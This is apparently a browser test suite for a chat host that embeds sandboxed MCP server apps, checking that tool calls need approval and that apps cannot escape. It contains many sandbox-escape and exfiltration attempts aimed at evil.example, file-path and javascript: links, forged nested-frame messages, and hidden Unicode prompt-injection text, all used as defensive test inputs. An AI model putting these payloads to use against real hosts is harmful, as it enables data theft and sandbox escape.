"""Apps of other MCP servers in the chat: how they look, what they may ask for, and how they try to break out."""

import json
import re
import shutil
from collections.abc import Iterator

import pytest
from conftest import ROOT, npm_install
from pages import Browser, Frame, Page, Route, drawn, expect, finished, message_box, say
from servers import LiveProject, serve, wait_until

pytestmark = pytest.mark.browser

MODEL = """
from pydantic_ai.models.function import DeltaToolCall, FunctionModel


async def answer(messages, info):
    last = messages[-1].parts[-1]
    if last.part_kind == "tool-return":
        yield "Here they are."
    elif last.content == "Show my orders":
        yield {0: DeltaToolCall("shop_orders", '{"customer": "Ada"}', tool_call_id=f"c{len(messages)}")}
    elif last.content in {tool.name for tool in info.function_tools}:
        yield {0: DeltaToolCall(last.content, "{}", tool_call_id=f"c{len(messages)}")}
    else:
        yield f"I read: {last.content!r}"


model = FunctionModel(stream_function=answer)
"""
ALLOWED, DECLARED = "https://api.example.com", "https://declared.example"
# This app speaks the protocol, and lets a test try anything. Its own policy would allow everything.
APP = """<!doctype html>
<html><head>
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">
<style>h1 { color: rgb(1, 2, 3) } :root { color-scheme: var(--scheme) }</style>
</head><body>
<h1>Orders</h1><p id="told"></p><button onclick="window.pressed = true">Press</button>
<script>
const waiting = {}; let count = 0; window.heard = [];
window.ask = (method, params = {}) => new Promise((resolve) => {
  waiting[(count += 1)] = resolve;
  setTimeout(resolve, 60_000, "no answer"); // only to end a hang
  parent.postMessage({ jsonrpc: "2.0", id: count, method, params }, "*");
});
window.tell = (method, params = {}) => parent.postMessage({ jsonrpc: "2.0", method, params }, "*");
window.attempt = async (action) => {
  try { return String(await action()); } catch (error) { return error.name; }
};
addEventListener("message", ({ data }) => {
  if (data.method) heard.push(data);
  if (data.method === "ui/notifications/tool-result") {
    told.textContent = data.params.content[0].text;
    tell("ui/notifications/size-changed", { height: document.documentElement.scrollHeight });
  }
  waiting[data.id]?.(data.error ? `refused: ${data.error.message}` : JSON.stringify(data.result));
});
window.ready = ask("ui/initialize").then((answer) => {
  window.host = JSON.parse(answer);
  tell("ui/notifications/initialized");
});
</script></body></html>"""


@pytest.fixture(scope="module")
def hosting(site: LiveProject) -> Iterator[LiveProject]:
    (site.path / "hosted.py").write_text(MODEL)
    shutil.copy(ROOT / "tests/engine/app_server.py", site.path / "app_server.py")
    (site.path / "app.html").write_text(APP)
    about = {"APP_HTML": str(site.path / "app.html")}
    about["APP_CSP"] = json.dumps({"connectDomains": [ALLOWED, DECLARED], "resourceDomains": [DECLARED]})
    shop = {"command": str(site.path / ".venv/bin/python"), "args": ["app_server.py"], "cwd": ".", "env": about}
    servers = {"shop": {**shop, "apps": {"connectDomains": [ALLOWED, "https://undeclared.example"]}}}
    (site.path / "mcp.json").write_text(json.dumps({"mcpServers": servers}))
    with serve(site.path, AGENT_MODEL="python:hosted.model", MCP_CONFIG="mcp.json") as live:
        yield live


@pytest.fixture
def shop(browser: Browser, hosting: LiveProject, signed_in: dict) -> Iterator[Page]:
    """A page with an app, whose policies may refuse things."""
    context = browser.new_context(storage_state=signed_in, viewport={"width": 1000, "height": 800})
    page = context.new_page()
    # Errors of the page itself: an app may fail as it likes.
    page.add_init_script("""for (const kind of ["error", "unhandledrejection"]) {
        addEventListener(kind, ({ message, reason }) => (window.failures ??= []).push(message ?? String(reason)));
    }""")
    page.goto(hosting.url)
    yield page
    failures = page.evaluate("window.failures")
    context.close()
    assert failures is None


def app_of(page: Page) -> Frame:
    """The app's own frame, once it is drawn."""
    expect(page.locator(".view[data-open]")).to_be_visible()
    [outer] = [frame for frame in page.frames if "/mcp/apps/" in frame.url]
    [inner] = outer.child_frames
    wait_until(lambda: inner.evaluate("Boolean(window.ready)"))
    wait_until(lambda: inner.evaluate("Boolean(told.textContent)"))
    return inner


def shown(page: Page) -> Frame:
    say(page, "Show my orders")
    finished(page)
    return app_of(page)


def question(page: Page):
    return page.locator(".app-asks [role=group]")


def test_app_is_drawn_and_what_it_asks_for_is_asked(shop: Page):
    app = shown(shop)
    inside = shop.frame_locator(".activity iframe").frame_locator("iframe")
    expect(inside.get_by_role("heading")).to_have_css("color", "rgb(1, 2, 3)")
    expect(shop.locator(".app-source")).to_have_text("App of “shop”")
    frame = shop.locator(".activity iframe")
    expect(frame).to_have_attribute("title", "Orders")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    assert 80 < frame.bounding_box()["height"] < 400
    # The app gets what the tool got and gave, with what is for apps alone, and what it must know of the page.
    heard = {message["method"].rpartition("/")[2]: message["params"] for message in app.evaluate("heard")}
    assert heard["tool-input"] == {"arguments": {"customer": "Ada"}}
    assert heard["tool-result"]["structuredContent"] == {"count": 2}
    assert heard["tool-result"]["_meta"]["secret"] == "for the app"
    host = app.evaluate("host")
    assert set(host["hostCapabilities"]) == {"serverTools", "serverResources", "openLinks", "message"}
    assert (host["hostContext"]["theme"], host["hostContext"]["locale"]) == ("light", "en")
    shop.locator("agui-chat").evaluate("chat => chat.setAttribute('theme', 'dark')")
    # Playwright's own waiting needs eval, which the app's policy forbids.
    wait_until(lambda: app.evaluate("heard.at(-1).method === 'ui/notifications/host-context-changed'"))
    assert app.evaluate("heard.at(-1).params.theme") == "dark"
    # A harmless tool is called at once. One that may destroy something asks, and only what was asked about is done.
    assert '"calls":' in app.evaluate("ask('tools/call', { name: 'refresh', arguments: {} })")
    app.evaluate("() => { window.answer = ask('tools/call', { name: 'cancel', arguments: { number: 7 } }); }")
    expect(question(shop)).to_contain_text("The app of “shop” asks:")
    expect(question(shop).locator("pre")).to_have_text('Run "Shop cancel"?\nnumber: 7')
    # A second question has to wait for the first one.
    link = "ask('ui/open-link', { url: 'https://example.com/a' })"
    assert app.evaluate(link) == "refused: The user has not allowed this."
    allow = question(shop).get_by_role("button", name="Allow", exact=True)
    expect(allow).to_be_enabled()
    allow.focus()
    shop.keyboard.press("Enter")
    assert "cancelled 7" in app.evaluate("answer")
    expect(question(shop)).to_have_count(0)
    # A message and a link are the user's, too. What nobody sees of a message is not sent.
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey") + "\u202e\u200b"
    app.evaluate(f"""() => {{
        const content = [{{ type: "text", text: {json.dumps(hidden + "Thank you")} }}, {{ type: "image", data: "" }}];
        window.answer = ask("ui/message", {{ role: "user", content }});
    }}""")
    expect(question(shop).locator("pre")).to_have_text("Thank you")
    expect(shop.locator(".user")).to_have_count(1)
    question(shop).get_by_role("button", name="Allow", exact=True).click()
    assert app.evaluate("answer") == "{}"
    expect(shop.locator(".assistant").last).to_contain_text("I read: 'Thank you'")
    shop.context.route("https://example.com/**", lambda route: route.fulfill(body="elsewhere"))
    app.evaluate(f"() => {{ window.answer = {link}; }}")
    expect(question(shop).locator("pre")).to_have_text("https://example.com/a")
    shop.evaluate("""() => {
        const open = window.open;
        window.open = (...given) => (window.given = given) && open.apply(window, given);
    }""")
    with shop.context.expect_page() as opened:
        question(shop).get_by_role("button", name="Allow", exact=True).click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("opener") is None
    # Headers of the site see to that already. Not all sites have them.
    assert shop.evaluate("given") == ["https://example.com/a", "_blank", "noopener,noreferrer"]
    opened.value.close()
    assert app.evaluate("answer") == "{}"
    # On paper it is its text. It comes back after a reload, also on a phone, and from right to left.
    shop.emulate_media(media="print")
    expect(shop.locator(".view-text")).to_have_text("2 orders of Ada")
    expect(shop.locator(".view-text")).to_be_visible()
    expect(frame).to_be_hidden()
    shop.emulate_media(media="screen")
    shop.set_viewport_size({"width": 380, "height": 700})
    shop.evaluate("document.documentElement.dir = 'rtl'")
    shop.reload()
    assert app_of(shop).evaluate("told.textContent") == "2 orders of Ada"
    fits = "() => document.documentElement.scrollWidth <= innerWidth"
    assert shop.evaluate(fits)


def test_no_means_no(shop: Page):
    app = shown(shop)
    cancel = "ask('tools/call', { name: 'cancel', arguments: { number: 7 } })"
    for _ in range(2):
        app.evaluate(f"() => {{ window.answer = {cancel}; }}")
        question(shop).get_by_role("button", name="Don't allow").click()
        assert "declined" in app.evaluate("answer")
        expect(question(shop)).to_have_count(0)
        # An app does not ask again and again: only what a person does in the app makes another question.
        message_box(shop).click()
        assert "declined" in app.evaluate(cancel)
        assert app.evaluate("ask('ui/open-link', { url: 'https://example.com/' })").startswith("refused")
        shop.frame_locator(".activity iframe").frame_locator("iframe").get_by_role("button").click()
    assert '"calls":' in app.evaluate("ask('tools/call', { name: 'refresh', arguments: {} })")


# --- What an app can't do

SECURITY = (
    "parent.document", "parent.location.href", "top.document", "parent.parent.document",
    "top.localStorage", "document.cookie", "localStorage.length", "sessionStorage.length", "caches.keys()",
    "indexedDB.databases()", "top.document.querySelector('agui-chat')", "parent.eval('1')",
    "top.location = 'https://evil.example/top'", "parent.location = 'https://evil.example/parent'",
    "top.location.replace('https://evil.example/replace')", "parent.location.assign('/admin/')",
)  # fmt: skip
UNDONE = {
    "origin": "null",
    "opener": "null",
    "window.frameElement": "null",
    "open('https://evil.example/open')": "null",
    "open('/admin/', '_top')": "null",
    "confirm('Sure?')": "false",
    "prompt('Password?')": "null",
    "navigator.serviceWorker.register('/sw.js')": "SecurityError",
    "navigator.clipboard.readText()": "NotAllowedError",
    "navigator.mediaDevices.getUserMedia({ audio: true })": "SecurityError",
    "new Promise((done) => navigator.geolocation.getCurrentPosition(done, ({ code }) => done(code)))": "1",
    "document.documentElement.requestFullscreen()": "TypeError",
    # A browser lets the tools of developers do this, so it has to be later.
    "new Promise((done) => setTimeout(() => done(attempt(() => eval('1')))))": "EvalError",
    "fetch('https://evil.example/fetch', { mode: 'no-cors' })": "TypeError",
    f"fetch('{DECLARED}/only-declared')": "TypeError",
    "fetch('https://undeclared.example/only-allowed')": "TypeError",
    "fetch('//HOST/agent/threads/', { credentials: 'include' })": "TypeError",
    "fetch('//HOST/agent/mcp/apps/', { method: 'POST', body: '{}', mode: 'no-cors' })": "TypeError",
    "navigator.sendBeacon('https://evil.example/beacon', 'x')": "true",  # says so, and sends nothing
    "import('https://evil.example/module.js')": "TypeError",
    "new Promise((done) => { new WebSocket('wss://evil.example/socket').onerror = () => done('error') })": "error",
    "new Promise((done) => { new EventSource('https://evil.example/events').onerror = () => done('error') })": "error",
}
MARKUP = """
<img src="https://evil.example/img"><img src="//HOST/agent/threads/?img">
<link rel="stylesheet" href="https://evil.example/style"><link rel="prefetch" href="https://evil.example/prefetch">
<link rel="preload" as="image" href="https://evil.example/preload"><link rel="icon" href="https://evil.example/icon">
<style>@import url("https://evil.example/import"); body { background: url("https://evil.example/background") }
@font-face { font-family: x; src: url("https://evil.example/font") } h1 { font-family: x }</style>
<video src="https://evil.example/video" poster="https://evil.example/poster" autoplay></video>
<audio src="https://evil.example/audio" autoplay></audio><object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed"><svg><image href="https://evil.example/svg"></image></svg>
<iframe src="https://evil.example/frame"></iframe><iframe src="//HOST/admin/"></iframe>
<iframe src="data:text/html,x"></iframe><base href="https://evil.example/">
<form action="https://evil.example/form" target="_top"><button>Send</button></form>
<a href="https://evil.example/link" target="_blank" ping="https://evil.example/ping">Link</a>
<a href="https://evil.example/above" target="_top">Above</a>
<a href="data:text/plain,x" download="x.txt">Download</a>
"""
ACT = """markup => {
  const range = document.createRange();
  range.selectNode(document.body);
  document.body.append(range.createContextualFragment(markup));
  const script = document.createElement("script");
  script.src = "https://evil.example/script";
  document.body.append(script);
  for (const kind of [Worker, SharedWorker]) {
    try { new kind("https://evil.example/worker"); } catch { /* as it should be */ }
    try { new kind("data:text/javascript,fetch('https://evil.example/in-worker')"); } catch { /* as it should be */ }
  }
  document.querySelector("form").requestSubmit();
  for (const link of document.querySelectorAll("a")) link.click();
}"""


def test_app_reaches_no_page_no_storage_and_no_network(shop: Page, hosting: LiveProject):
    app = shown(shop)
    requests: list[str] = []

    def note(route: Route) -> None:
        # What a policy refuses is no request yet.
        requests.append(route.request.url)
        route.fulfill(body="x", headers={"Access-Control-Allow-Origin": "*"})

    shop.on("download", lambda download: requests.append(f"download of {download.url}"))
    shop.context.route(re.compile("^https:|/agent/|/admin/"), note)
    host = hosting.url.removeprefix("http:").rstrip("/")

    def attempt(action: str) -> str:
        return app.evaluate(f"() => attempt(() => {action.replace('//HOST', host)})")

    for action in SECURITY:
        assert attempt(action) == "SecurityError", action
    assert {action: attempt(action) for action in UNDONE} == UNDONE
    # What the server declares and the project allows is open, so that the others could have been seen.
    assert attempt(f"fetch('{ALLOWED}/open').then((response) => response.text())") == "x"
    app.evaluate(ACT, MARKUP.replace("//HOST", host))
    shop.frame_locator(".activity iframe").frame_locator("iframe").get_by_role("button", name="Send").click()
    assert attempt(f"fetch('{ALLOWED}/last').then((response) => response.text())") == "x"
    drawn(shop)
    assert requests == [f"{ALLOWED}/open", f"{ALLOWED}/last"]
    assert len(shop.context.pages) == 1
    assert shop.url.startswith(hosting.url)
    assert app_of(shop) == app


NESTED = """([name, params]) => new Promise((done) => {
  const frame = document.createElement("iframe");
  const message = JSON.stringify({ jsonrpc: "2.0", id: 99, method: "tools/call", params: { name, arguments: params } });
  frame.srcdoc = `<script>
    parent.parent.postMessage(${message}, "*"); top.postMessage(${message}, "*"); parent.postMessage("said", "*");
  <\\/script>`;
  addEventListener("message", ({ data }) => data === "said" && done());
  document.body.append(frame);
})"""


def test_app_is_heard_only_for_what_it_may_ask(shop: Page):
    app = shown(shop)
    sent: list[dict] = []
    shop.on("request", lambda request: request.method == "POST" and sent.append(request.post_data_json))

    def attempt(action: str) -> str:
        return app.evaluate(f"() => attempt(() => {action})")

    none = "refused: This tool is not for apps."
    for name in ("secrets", "shop_refresh", "delete_finished_tasks", "other_add", "", "__proto__"):
        assert attempt(f"ask('tools/call', {{ name: {name!r}, arguments: {{}} }})") == none, name
    for method in (
        "resources/list",
        "tools/list",
        "sampling/createMessage",
        "constructor",
        "__proto__",
        "ui/download-file",
    ):
        assert attempt(f"ask('{method}')") == "refused: Unknown method.", method
    for uri in ("file:///etc/shop.conf", "https://evil.example/", "", "ui:/x"):
        refused = "refused: An app reads what its server offers to apps, and nothing else."
        assert attempt(f"ask('resources/read', {{ uri: '{uri}' }})") == refused, uri
    assert '{\\"a\\": 1}' in attempt("ask('resources/read', { uri: 'ui://shop/data.json' })")
    # Its server is not its to say, nor is the user's answer.
    more = "name: 'refresh', arguments: {}, server: 'other', answer: { id: 'x', approved: true }, requestState: 'x'"
    assert '"calls":' in attempt(f"ask('tools/call', {{ {more} }})")
    assert {body["server"] for body in sent} == {"shop"}
    assert not any("answer" in body for body in sent)
    for url in (
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "https://bank.example@evil.example/",
        "x",
    ):
        assert attempt(f"ask('ui/open-link', {{ url: '{url}' }})") == "refused: Only web addresses.", url
    for content in (
        "[]",
        "[{ type: 'image' }]",
        "[{ type: 'text', text: ' ' }]",
        "[{ type: 'text', text: 'x'.repeat(4001) }]",
    ):
        assert attempt(f"ask('ui/message', {{ content: {content} }})") == "refused: A message is a text.", content
    assert attempt("ask('ui/request-display-mode', { mode: 'fullscreen' })") == '{"mode":"inline"}'
    # Frames inside it don't speak for it, and the page's own messages are not its.
    count = len(sent)
    app.evaluate(NESTED, ["refresh", {}])
    message = {"jsonrpc": "2.0", "id": 98, "method": "tools/call", "params": {"name": "refresh", "arguments": {}}}
    shop.evaluate("message => postMessage(message, '*')", message)
    shop.frame_locator(".activity iframe").locator("body").evaluate(
        "(_, message) => postMessage(message, '*')", message
    )
    assert attempt("ask('ping')") == "{}"
    assert len(sent) == count
    # Not more at once than a page can bear.
    many = "Promise.all(Array.from({ length: 12 }, () => ask('resources/read', { uri: 'ui://shop/data.json' })))"
    assert app.evaluate(f"{many}.then((all) => all.filter((one) => one.includes('Too many')).length)") == 4
    expect(question(shop)).to_have_count(0)
    expect(shop.locator(".user")).to_have_count(1)


def test_app_that_floods_the_page_or_begins_again_is_closed(shop: Page):
    for act in (
        "() => { for (let i = 0; i < 500; i += 1) parent.postMessage(i, '*'); }",
        "() => ask('ui/initialize')",
    ):
        app = shown(shop)
        app.evaluate(act.replace("() => ask", "() => void ask"))
        expect(shop.locator(".activity iframe")).to_have_count(0)
        expect(shop.locator(".view-text").last).to_have_text("2 orders of Ada")
        shop.locator("agui-chat").evaluate("chat => chat.newChat()")


@pytest.mark.parametrize("where", ["https://evil.example/?data", "/admin/", "data:text/html,x", "about:blank"])
def test_app_can_t_take_its_frame_elsewhere_whatever_policy_the_page_has(shop: Page, hosting: LiveProject, where: str):
    def serve_bare(route: Route) -> None:
        response = route.fetch()
        headers = {name: value for name, value in response.headers.items() if name != "content-security-policy"}
        route.fulfill(response=response, headers=headers)

    shop.route(f"{hosting.url}/", serve_bare)
    shop.goto(hosting.url)
    app = shown(shop)
    requests: list[str] = []
    shop.context.on("request", lambda request: request.is_navigation_request() and requests.append(request.url))
    app.evaluate("where => { location.href = where; }", where)
    shop.evaluate("() => fetch('/livez')")
    expect(shop.locator(".activity iframe")).to_be_visible()
    drawn(shop)
    assert [url for url in requests if not url.startswith(("data:", "about:"))] == []
    assert [frame.url for frame in shop.frames if "evil" in frame.url or "admin" in frame.url] == []


def test_address_of_an_app_is_no_page(shop: Page, hosting: LiveProject):
    shown(shop)
    [address] = [frame.url for frame in shop.frames if "/mcp/apps/" in frame.url]
    page = shop.context.new_page()
    assert page.goto(address).status == 404


# --- Apps that others have written

PUBLISHED = {
    "basic-vanillajs": ("get-time", "Get Server Time"),
    "budget-allocator": ("get-budget-data", "Budget Allocator"),
    "debug": ("debug-tool", "Event Log"),
    "scenario-modeler": ("get-scenario-data", "Scenario Modeler"),
    "system-monitor": ("get-system-info", "System Monitor"),
}


@pytest.fixture(scope="module")
def published(hosting: LiveProject) -> Iterator[LiveProject]:
    """The servers that the authors of the protocol publish as examples."""
    packages = npm_install(ROOT / "tests/mcp/apps/package.json")
    if packages is None:
        pytest.skip("npm is not on the PATH")
    servers = {}
    for name in PUBLISHED:
        script = packages / f"@modelcontextprotocol/server-{name}/dist/index.js"
        servers[name] = {"command": "node", "args": [str(script), "--stdio"], "apps": True}
    (hosting.path / "published.json").write_text(json.dumps({"mcpServers": servers}))
    with serve(hosting.path, AGENT_MODEL="python:hosted.model", MCP_CONFIG="published.json") as live:
        yield live


@pytest.mark.nightly
@pytest.mark.parametrize("name", PUBLISHED)
def test_published_app_runs(new_page, published: LiveProject, signed_in: dict, name: str):
    tool, words = PUBLISHED[name]
    page = new_page(published.url, storage_state=signed_in)
    say(page, f"{name}_{tool}")
    page.get_by_role("button", name="Approve", exact=True).click()
    finished(page)
    expect(page.locator(".view[data-open]")).to_be_visible()
    inside = page.frame_locator(".activity iframe").frame_locator("iframe")
    expect(inside.locator("body")).to_contain_text(words)
    height = "document.querySelector('agui-chat').shadowRoot.querySelector('iframe').offsetHeight"
    wait_until(lambda: page.evaluate(height) > 100)
